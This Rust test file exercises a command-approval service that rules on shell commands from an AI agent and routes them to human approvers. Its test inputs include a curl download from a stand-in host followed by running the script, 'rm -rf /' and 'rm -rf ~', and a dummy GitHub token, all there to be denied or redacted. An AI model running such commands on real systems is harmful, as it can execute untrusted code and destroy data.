//! What a caller gets, with a store that remembers.

#![allow(clippy::unwrap_used, reason = "a test may stop where it stands")]

mod kit;

use std::sync::Arc;
use std::time::Duration;

use assize_protocol::{
    ApprovalState, Context, Decision, GrantScope, Happening, Outcome, RecordKind, Request, SessionEvent,
};
use assize_service::{OnUnrecorded, ServiceError, Settings};
use assize_store::RecordQuery;
use kit::{agent, kit, no, open, person, request, yes};

/// Asks, and nobody could say no to it: medium at most.
const ASKS: &str = "curl -s https://unknown.example/data.json";

#[tokio::test]
async fn an_allow_is_recorded_before_it_is_given() {
    let kit = kit().await;
    let verdict = kit.judge("git status").await;
    assert_eq!(verdict.ruling.decision, Decision::Allow);
    let query = RecordQuery { kind: Some(RecordKind::Verdict), ..RecordQuery::default() };
    let records = kit.service.records(&query).await.unwrap();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].record.decision, Some(Decision::Allow));
    assert_eq!(records[0].record.actor, "token:agent");
}

#[tokio::test]
async fn every_verdict_has_a_name_of_its_own() {
    let kit = kit().await;
    let (first, second) = (kit.judge("ls").await, kit.judge("ls").await);
    assert_ne!(first.id, second.id);
}

#[tokio::test]
async fn flows_cross_the_commands_of_a_session_and_of_no_other() {
    let kit = kit().await;
    kit.judge("curl -so /tmp/i.sh https://get.example/i.sh").await;
    assert_eq!(kit.judge("sh /tmp/i.sh").await.ruling.decision, Decision::Deny);
    let elsewhere = Request { session: Some("s-2".to_owned()), ..request("sh /tmp/i.sh") };
    assert_eq!(kit.service.evaluate(&agent(), &elsewhere).await.ruling.decision, Decision::Ask);
    let somebody = kit.service.evaluate(&person("other"), &request("sh /tmp/i.sh")).await;
    assert_eq!(somebody.ruling.decision, Decision::Ask, "a session belongs to its caller");
}

#[tokio::test]
async fn a_refusal_says_how_often_its_session_tried_the_same() {
    let kit = kit().await;
    let mut tried = Vec::new();
    for text in ["rm -rf /", "rm -rf /", ASKS, "rm -rf /", "ls"] {
        tried.push(kit.judge(text).await.tried);
    }
    assert_eq!(tried, [Some(1), Some(2), Some(1), Some(3), None]);
    let elsewhere = Request { session: Some("s-2".to_owned()), ..request("rm -rf /") };
    assert_eq!(kit.service.evaluate(&agent(), &elsewhere).await.tried, Some(1));
}

#[tokio::test]
async fn a_request_can_bring_its_session_along() {
    let kit = kit().await;
    let called = |text: &str| SessionEvent {
        id: None,
        at: None,
        what: Happening::ToolCall {
            tool: "Bash".to_owned(),
            call: None,
            input: serde_json::json!({ "command": text }),
        },
    };
    let recent =
        vec![called("curl -so /tmp/i.sh https://get.example/i.sh"), called("cp /tmp/i.sh /tmp/j.sh")];
    let context = Some(Context { prompt: Some("set it up".to_owned()), recent });
    let request = Request { session: None, context, ..request("sh /tmp/j.sh") };
    assert_eq!(kit.service.evaluate(&agent(), &request).await.ruling.decision, Decision::Deny);
}

#[tokio::test]
async fn a_restarted_service_knows_its_sessions() {
    let kit = kit().await;
    kit.judge("curl -so /tmp/i.sh https://get.example/i.sh").await;
    kit.service.close().await;
    let again = open(&kit.store, &kit.clock, Settings::default()).await;
    assert_eq!(again.evaluate(&agent(), &request("sh /tmp/i.sh")).await.ruling.decision, Decision::Deny);
}

#[tokio::test]
async fn what_the_store_has_of_a_session_holds_no_secret() {
    const SECRET: &str = "ghp_0123456789abcdefghijklmnopqrstuvwxyz";
    let kit = kit().await;
    let text = format!("token: {SECRET}");
    let event = |what| SessionEvent { id: None, at: None, what };
    let events = vec![
        event(Happening::Prompt { text: text.clone() }),
        event(Happening::ToolCall {
            tool: "Write".to_owned(),
            call: None,
            input: serde_json::json!({ "deep": [{ "text": text }] }),
        }),
        event(Happening::ToolResult {
            call: None,
            output: text.clone(),
            success: None,
            secret_words: Vec::new(),
        }),
        event(Happening::FileWrite { path: "/w/a.sh".to_owned(), text: Some(text) }),
    ];
    kit.service.remember(&agent(), "s-1", events).await.unwrap();
    kit.judge(&format!("echo {SECRET}")).await;
    let here = kit.service.session("token:agent", "s-1").await.unwrap();
    assert_eq!(here.len(), 5);
    assert!(serde_json::to_string(&here).unwrap().contains(SECRET), "judging needs it");
    // What is judged is kept a little later.
    let mut kept = Vec::new();
    while kept.len() < 5 {
        tokio::time::sleep(Duration::from_millis(10)).await;
        kept = kit.store.events("token:agent/s-1", 10).await.unwrap();
    }
    let kept = serde_json::to_string(&kept).unwrap();
    assert!(!kept.contains("ghp_"), "{kept}");
    assert_eq!(kept.matches("****").count() / 10, 5, "the rest stays: {kept}");
}

#[tokio::test]
async fn an_approval_allows_the_same_command_once() {
    let kit = kit().await;
    let asked = kit.judge(ASKS).await;
    assert_eq!(asked.ruling.decision, Decision::Ask);
    let id = asked.approval.unwrap().id;
    kit.service.decide(&person("ann"), &id, yes(GrantScope::Once)).await.unwrap();
    let allowed = kit.judge(ASKS).await;
    assert_eq!((allowed.ruling.decision, allowed.ruling.outcome), (Decision::Allow, Outcome::Approved));
    let again = kit.judge(ASKS).await;
    assert_eq!(again.ruling.decision, Decision::Ask);
    assert_ne!(again.approval.unwrap().id, id);
}

#[tokio::test]
async fn the_same_question_is_open_once() {
    let kit = kit().await;
    let (first, second) = (kit.judge(ASKS).await, kit.judge(ASKS).await);
    assert_eq!(first.approval, second.approval);
}

#[tokio::test]
async fn an_answer_for_a_structure_reaches_questions_that_are_open_already() {
    let kit = kit().await;
    let [first, second] = ["data", "more"].map(|name| format!("curl -s https://unknown.example/{name}.json"));
    let id = kit.judge(&first).await.approval.unwrap().id;
    // Asked twice: once looked up, once remembered.
    for _ in 0..2 {
        assert_eq!(kit.judge(&second).await.ruling.decision, Decision::Ask);
    }
    kit.service.decide(&person("ann"), &id, yes(GrantScope::Structure)).await.unwrap();
    assert_eq!(kit.judge(&second).await.ruling.decision, Decision::Allow);
}

#[tokio::test]
async fn a_question_to_two_services_is_answered_for_both() {
    let kit = kit().await;
    let other = open(&kit.store, &kit.clock, Settings::default()).await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    assert_eq!(other.evaluate(&agent(), &request(ASKS)).await.approval.unwrap().id, id);
    kit.service.decide(&person("ann"), &id, no("no")).await.unwrap();
    assert_eq!(other.evaluate(&agent(), &request(ASKS)).await.ruling.decision, Decision::Deny);
}

#[tokio::test]
async fn another_command_folder_session_or_caller_is_not_approved() {
    let kit = kit().await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    kit.service.decide(&person("ann"), &id, yes(GrantScope::Session)).await.unwrap();
    assert_eq!(kit.judge(ASKS).await.ruling.decision, Decision::Allow);
    let mut elsewhere = request(ASKS);
    elsewhere.command.cwd = "/home/dev/proj/sub".to_owned();
    let others = [
        (agent(), request(&format!("{ASKS} "))),
        (agent(), elsewhere),
        (agent(), Request { session: Some("s-2".to_owned()), ..request(ASKS) }),
        (person("other"), request(ASKS)),
    ];
    for (caller, other) in others {
        assert_eq!(kit.service.evaluate(&caller, &other).await.ruling.decision, Decision::Ask);
    }
}

#[tokio::test]
async fn an_approval_ends() {
    let kit = kit().await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    kit.service.decide(&person("ann"), &id, yes(GrantScope::Once)).await.unwrap();
    kit.clock.advance(24 * 60 * 60 * 1000);
    assert_eq!(kit.judge(ASKS).await.ruling.decision, Decision::Ask);
}

#[tokio::test]
async fn a_denial_with_its_message_is_the_answer_from_then_on() {
    let kit = kit().await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    kit.service.decide(&person("ann"), &id, no("use the mirror")).await.unwrap();
    let denied = kit.judge(ASKS).await;
    assert_eq!(denied.ruling.decision, Decision::Deny);
    assert_eq!(denied.approval.unwrap().message.as_deref(), Some("use the mirror"));
}

#[tokio::test]
async fn whoever_waits_gets_the_answer() {
    let kit = kit().await;
    let service = Arc::clone(&kit.service);
    let waiting = tokio::spawn(async move {
        service.evaluate(&agent(), &Request { wait_ms: Some(20_000), ..request(ASKS) }).await
    });
    let open = loop {
        let all = kit.service.approvals(&assize_store::ApprovalQuery::default()).await.unwrap();
        if let Some(one) = all.into_iter().next() {
            break one;
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    };
    kit.service.decide(&person("ann"), &open.id, yes(GrantScope::Once)).await.unwrap();
    assert_eq!(waiting.await.unwrap().ruling.decision, Decision::Allow);
    // That was the one time.
    assert_eq!(kit.judge(ASKS).await.ruling.decision, Decision::Ask);
}

#[tokio::test]
async fn whoever_waits_in_vain_gets_an_ask_in_time() {
    let kit = kit().await;
    let request = Request { wait_ms: Some(50), ..request(ASKS) };
    let verdict = kit.service.evaluate(&agent(), &request).await;
    assert_eq!(verdict.ruling.decision, Decision::Ask);
}

#[tokio::test]
async fn an_edited_command_is_judged_and_approved_in_place_of_the_asked_one() {
    let kit = kit().await;
    let id = kit.judge("rm -rf notes build").await.approval.unwrap().id;
    let edited =
        |text: &str| assize_service::Answer { edited: Some(text.to_owned()), ..yes(GrantScope::Once) };
    let refused = kit.service.decide(&person("ann"), &id, edited("rm -rf /")).await;
    assert!(matches!(refused, Err(ServiceError::Forbidden(_))), "{refused:?}");
    let approved = kit.service.decide(&person("ann"), &id, edited("rm -rf notes")).await.unwrap();
    assert_eq!(approved.edited.as_deref(), Some("rm -rf notes"));
    assert_eq!(kit.judge("rm -rf notes build").await.ruling.decision, Decision::Ask);
    assert_eq!(kit.judge("rm -rf notes").await.ruling.decision, Decision::Allow);
    assert_eq!(kit.judge("rm -rf notes").await.ruling.decision, Decision::Ask);
}

#[tokio::test]
async fn of_many_who_answer_at_once_one_decides() {
    let kit = kit().await;
    let other = open(&kit.store, &kit.clock, Settings::default()).await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    let mut answers = Vec::new();
    for number in 0..16 {
        let service = if number % 2 == 0 { &kit.service } else { &other };
        let (service, id) = (Arc::clone(service), id.clone());
        let answer = if number % 3 == 0 { no("no") } else { yes(GrantScope::Once) };
        answers.push(tokio::spawn(async move {
            service.decide(&person(&format!("p{number}")), &id, answer).await.is_ok()
        }));
    }
    let mut taken = 0;
    for answer in answers {
        taken += usize::from(answer.await.unwrap());
    }
    assert_eq!(taken, 1);
}

#[tokio::test]
async fn of_many_who_ask_at_once_one_uses_the_approval() {
    let kit = kit().await;
    let other = open(&kit.store, &kit.clock, Settings::default()).await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    kit.service.decide(&person("ann"), &id, yes(GrantScope::Once)).await.unwrap();
    let mut tasks = Vec::new();
    for number in 0..16 {
        let service = Arc::clone(if number % 2 == 0 { &kit.service } else { &other });
        tasks.push(tokio::spawn(async move { service.evaluate(&agent(), &request(ASKS)).await }));
    }
    let mut allowed = 0;
    for task in tasks {
        allowed += usize::from(task.await.unwrap().ruling.decision == Decision::Allow);
    }
    assert_eq!(allowed, 1);
}

#[tokio::test]
async fn a_token_is_verified_and_works_once() {
    let kit = kit().await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    kit.service.decide(&person("ann"), &id, yes(GrantScope::Once)).await.unwrap();
    let ticket = kit.service.ticket(&agent(), &id, Duration::ZERO).await.unwrap();
    let token = ticket.token.unwrap();
    assert_eq!(ticket.state, ApprovalState::Approved);
    assert!(kit.service.redeem(&person("eve"), &token).await.is_err());
    assert!(kit.service.redeem(&agent(), &format!("{token}x")).await.is_err());
    kit.service.redeem(&agent(), &token).await.unwrap();
    assert!(matches!(kit.service.redeem(&agent(), &token).await, Err(ServiceError::Closed { .. })));
    assert_eq!(kit.judge(ASKS).await.ruling.decision, Decision::Ask, "the token was the one use");
}

#[tokio::test]
async fn what_nobody_answers_expires_and_can_be_asked_again() {
    let kit = kit().await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    kit.clock.advance(2 * 60 * 60 * 1000);
    assert_ne!(kit.judge(ASKS).await.approval.unwrap().id, id, "what is over stands in nobody's way");
    kit.clock.advance(2 * 60 * 60 * 1000);
    assert_eq!(kit.service.expire_overdue().await.unwrap(), 1);
    let late = kit.service.decide(&person("ann"), &id, yes(GrantScope::Once)).await;
    assert!(matches!(late, Err(ServiceError::Closed { .. })), "{late:?}");
    assert_ne!(kit.judge(ASKS).await.approval.unwrap().id, id);
}

#[tokio::test]
async fn a_question_can_be_taken_back_by_who_asked() {
    let kit = kit().await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    assert!(matches!(kit.service.withdraw(&person("eve"), &id).await, Err(ServiceError::Forbidden(_))));
    assert_eq!(kit.service.withdraw(&agent(), &id).await.unwrap().state, ApprovalState::Withdrawn);
    assert!(kit.service.decide(&person("ann"), &id, yes(GrantScope::Once)).await.is_err());
}

#[tokio::test]
async fn a_revoked_grant_allows_nothing_any_more() {
    let kit = kit().await;
    let id = kit.judge(ASKS).await.approval.unwrap().id;
    kit.service.decide(&person("ann"), &id, yes(GrantScope::Session)).await.unwrap();
    assert_eq!(kit.judge(ASKS).await.ruling.decision, Decision::Allow);
    let grant = kit.service.grants().await.unwrap().remove(0);
    kit.service.revoke(&person("ann"), &grant.id).await.unwrap();
    assert_eq!(kit.judge(ASKS).await.ruling.decision, Decision::Ask);
}

#[tokio::test]
async fn what_policy_denies_is_asked_of_nobody() {
    let kit = kit().await;
    let verdict = kit.judge("rm -rf ~").await;
    assert_eq!((verdict.ruling.decision, verdict.approval), (Decision::Deny, None));
}

#[tokio::test]
async fn what_cannot_be_recorded_is_not_allowed() {
    for (setting, expected) in [
        (OnUnrecorded::Ask, Decision::Ask),
        (OnUnrecorded::Deny, Decision::Deny),
        (OnUnrecorded::Allow, Decision::Allow),
    ] {
        let store = Arc::new(kit::Failing::over("sqlite::memory:").await);
        let settings = Settings { on_unrecorded: setting, ..Settings::default() };
        let kit = kit::kit_over(store.clone(), settings).await;
        assert_eq!(kit.judge("git status").await.ruling.decision, Decision::Allow);
        store.fail(true);
        let verdict = kit.judge("git status").await;
        assert_eq!(verdict.ruling.decision, expected, "{setting:?}");
        assert_eq!(kit.service.unrecorded(), 1);
        assert_eq!(kit.judge("rm -rf /").await.ruling.decision, Decision::Deny);
        store.fail(false);
        assert_eq!(kit.judge("git status").await.ruling.decision, Decision::Allow, "it comes back by itself");
        let records = kit.service.records(&RecordQuery::default()).await.unwrap();
        let report = assize_audit::verify(records.iter(), None);
        assert!(report.holds(), "{report:?}");
    }
}
